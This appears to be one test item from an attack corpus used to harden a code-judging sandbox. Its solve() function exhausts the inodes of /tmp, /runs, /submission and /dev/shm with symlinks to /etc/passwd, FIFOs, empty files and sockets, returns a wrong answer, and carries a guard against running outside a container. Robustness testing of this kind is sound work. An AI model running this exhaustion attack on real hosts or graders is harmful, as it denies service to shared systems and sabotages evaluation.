# ID: 269
# SLUG: no-inodes
# CATEGORY: files
# ATTACK: uses up every inode of every writable folder with links, empty files, FIFOs and sockets
# VULNERABLE JUDGE: the judge cannot write what it needs, and that is our fault
# MUST HAPPEN HERE: the disk limit is reached: a failed test
# EXPECT-VERDICT: fail   (never pass)
import itertools
import os
import socket

if os.environ.get("ATTACK_CORPUS_IN_SANDBOX") != "1" and (
    os.geteuid() == 0 or not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv"))
):
    raise RuntimeError("attack corpus: refusing to run as root or outside a container")


def fill(place):
    for number in itertools.count():
        name = f"{place}/{number:x}"
        try:
            if number % 3 == 0:
                os.symlink("/etc/passwd", name)
            elif number % 3 == 1:
                os.mkfifo(name)
            else:
                open(name, "w").close()
        except OSError:
            return
        if number % 50 == 0:
            try:
                socket.socket(socket.AF_UNIX).bind(name + ".sock")
            except OSError:
                pass
        if number > 300_000:
            return


def solve(x):
    for place in ("/tmp", "/runs", "/submission", "/dev/shm"):
        fill(place)
    return "wrong-answer"
